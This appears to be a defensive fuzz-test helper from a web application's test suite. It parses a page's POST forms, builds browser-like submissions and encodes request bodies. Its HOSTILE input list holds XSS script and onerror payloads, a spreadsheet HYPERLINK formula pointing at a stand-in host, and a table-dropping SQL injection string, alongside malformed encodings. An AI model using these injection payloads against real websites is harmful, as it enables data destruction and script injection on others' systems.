"""Finding the forms a page serves, and posting generated values to them (tests/fuzz/test_forms.py).

A page's forms are read from its HTML as a browser would (every `<form method="post">` with its
inputs, text areas, selects and named buttons), so a form added to any page is fuzzed without being
listed anywhere. Values are sent as raw bytes in the form's own encoding, so that invalid UTF-8
(a lone surrogate) reaches the application as it would from a hostile client.
"""

from __future__ import annotations

import urllib.parse
from dataclasses import dataclass, field
from html.parser import HTMLParser

# The marker of a script typed into a field: the page must show it back escaped, never as markup.
SCRIPT = '<script>alert("cgfuzz")</script>'
IMG = '"><img src=x onerror=cgfuzz>'
RAW_MARKUP = ('<script>alert("cgfuzz")', "<img src=x onerror=cgfuzz>")

# What a hostile or careless user types (the list; very long values are made by the test's
# strategies, to keep this list's repr short). Bytes, sent as they are.
HOSTILE: tuple[bytes, ...] = (
    b"",
    b" ",
    b"a\x00b",
    b"\x00",
    b"\xed\xa0\x80",  # a lone surrogate (U+D800) in UTF-8's shape: not valid UTF-8
    b"ok\xed\xb2\x80\xff\xfe",
    "\u202eevil\u202c \u200f\u061c".encode(),
    SCRIPT.encode(),
    IMG.encode(),
    b'=HYPERLINK("http://x.invalid/?"&A1)',
    b"+1+1",
    b"-2+3",
    b"@SUM(A1)",
    b"-1",
    b"0",
    b"-99999999999999999999999",
    b"99999999999999999999999999999",
    b"1e400",
    b"NaN",
    b"-inf",
    b"2026-02-30",
    b"2026-13-01",
    b"0000-00-00",
    b"9999-12-31",
    b"31/02/2026",
    b"2026-02-30T25:61",
    b"not-a-choice",
    b"999999999",
    b"1,2",
    b"'; DROP TABLE problems_problem; --",
)


@dataclass
class Field:
    tag: str  # input, textarea, select, button
    name: str
    type: str = "text"
    value: str = ""
    checked: bool = False
    multiple: bool = False
    options: list[str] = field(default_factory=list)
    selected: list[str] = field(default_factory=list)


@dataclass
class Form:
    action: str
    enctype: str
    fields: list[Field] = field(default_factory=list)

    @property
    def multipart(self) -> bool:
        return self.enctype.lower() == "multipart/form-data"


class FormParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._select: Field | None = None
        self._option: tuple[str | None, bool] | None = None
        self._option_text = ""
        self._textarea: Field | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            if a.get("method", "get").lower() == "post":
                self._form = Form(action=a.get("action", ""), enctype=a.get("enctype", ""))
                self.forms.append(self._form)
            return
        if self._form is None or "disabled" in a:
            return
        name = a.get("name", "")
        if tag == "input" and name:
            kind = a.get("type", "text").lower()
            self._form.fields.append(Field("input", name, kind, a.get("value", ""), checked="checked" in a))
        elif tag == "button" and name and a.get("type", "submit").lower() == "submit":
            self._form.fields.append(Field("button", name, "submit", a.get("value", "")))
        elif tag == "textarea" and name:
            self._textarea = Field("textarea", name, "textarea")
            self._form.fields.append(self._textarea)
        elif tag == "select" and name:
            self._select = Field("select", name, "select", multiple="multiple" in a)
            self._form.fields.append(self._select)
        elif tag == "option" and self._select is not None:
            self._option = (a.get("value"), "selected" in a)
            self._option_text = ""

    def handle_data(self, data: str) -> None:
        if self._textarea is not None:
            self._textarea.value += data
        if self._option is not None:
            self._option_text += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None
        elif tag == "option":
            self._close_option()

    def _close_option(self) -> None:
        if self._select is None or self._option is None:
            return
        value, selected = self._option
        value = self._option_text.strip() if value is None else value
        self._select.options.append(value)
        if selected:
            self._select.selected.append(value)
        self._option = None


def forms_in(html: str) -> list[Form]:
    parser = FormParser()
    parser.feed(html)
    parser.close()
    return parser.forms


def served_pairs(form: Form) -> list[tuple[str, bytes]]:
    """What a browser sends if the user changes nothing and presses the first submit button."""
    pairs: list[tuple[str, bytes]] = []
    pressed = False
    for f in form.fields:
        if f.tag == "button" or (f.tag == "input" and f.type in ("submit", "image")):
            if not pressed:
                pairs.append((f.name, f.value.encode()))
                pressed = True
        elif f.tag == "select":
            chosen = f.selected or f.options[:1]
            pairs.extend((f.name, v.encode()) for v in (chosen if f.multiple else chosen[:1]))
        elif f.type in ("checkbox", "radio"):
            if f.checked:
                pairs.append((f.name, (f.value or "on").encode()))
        elif f.type != "file":
            pairs.append((f.name, f.value.encode()))
    return pairs


BOUNDARY = "cgfuzzBoundary7MA4YWxkTrZu0gW"


def encode(form: Form, pairs: list[tuple[str, bytes]]) -> tuple[bytes, str]:
    """The request body and content type for `pairs`, in the form's encoding."""
    if not form.multipart:
        return urllib.parse.urlencode(pairs).encode("ascii"), "application/x-www-form-urlencoded"
    body = b""
    for name, value in pairs:
        body += f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value + b"\r\n"
    body += f"--{BOUNDARY}--\r\n".encode()
    return body, f"multipart/form-data; boundary={BOUNDARY}"
